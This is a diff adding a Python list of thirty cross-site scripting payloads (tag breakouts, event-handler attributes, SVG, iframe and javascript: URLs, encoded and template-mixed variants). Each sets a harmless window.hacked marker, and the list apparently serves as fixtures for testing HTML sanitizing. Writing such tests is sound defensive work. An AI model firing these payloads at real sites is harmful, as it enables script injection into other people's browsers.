@@ -1,0 +1,36 @@
+"""Thirty ways to smuggle a script into a page; any of them sets ``window.hacked`` if it works."""
+
+from __future__ import annotations
+
+PAYLOADS = [
+    "<script>hacked=1</script>",
+    "</title><script>hacked=1</script>",
+    "</script><script>hacked=1</script>",
+    "</textarea><script>hacked=1</script>",
+    "</style></noscript><script>hacked=1</script>",
+    "<ScRiPt>hacked=1</sCrIpT>",
+    "<scr<script>ipt>hacked=1</scr</script>ipt>",
+    "<script/x>hacked=1</script >",
+    "--><script>hacked=1</script>",
+    "]]><script>hacked=1</script>",
+    "<img src=x onerror=hacked=1>",
+    '"><img src=x onerror=hacked=1>',
+    "'><img src=x onerror=hacked=1>",
+    "`><img src=x onerror=hacked=1>",
+    '" onerror="hacked=1" x="',
+    "' onerror='hacked=1' x='",
+    '" autofocus onfocus="hacked=1" x="',
+    '" onmouseover="hacked=1" style="position:fixed;inset:0" x="',
+    " onload=hacked=1 x=",
+    "<svg onload=hacked=1>",
+    "<svg><script>hacked=1</script></svg>",
+    "<math><mtext></mtext><style><img src=x onerror=hacked=1></style></math>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<details open ontoggle=hacked=1>",
+    "<body onload=hacked=1>",
+    '<a href="javascript:hacked=1" autofocus>x</a>',
+    "javascript:hacked=1//",
+    "&lt;script&gt;hacked=1&lt;/script&gt;&#60;img src=x onerror=hacked=1&#62;",
+    "{{ 7|add:7 }}{% load imgrec %}{% now 'Y' %}<img src=x onerror=hacked=1>",
+    "\u2028\u202e<img src=x onerror=hacked=1>\\u003cimg src=x onerror=hacked=1\\u003e${hacked=1}",
+]
